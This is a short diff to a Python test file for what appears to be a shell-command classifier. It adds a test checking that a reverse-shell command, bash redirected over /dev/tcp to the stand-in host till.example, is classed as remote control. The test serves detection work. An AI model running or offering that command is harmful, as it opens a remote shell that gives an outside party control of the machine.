@@ -58,3 +58,7 @@ def test_a_connection_brings_what_nobody_has_seen(judging: Judging) -> None:
 
 def test_a_name_of_a_file_that_is_not_known(judging: Judging) -> None:
     assert [a.targets[0].value for a in judging.shell("cat < $x").actions if a.targets] == []
+
+
+def test_a_shell_that_talks_to_a_connection_is_somebody_elses(judging: Judging) -> None:
+    assert Kind.CONTROL in judging.kinds("bash -i >& /dev/tcp/till.example/80 0>&1")
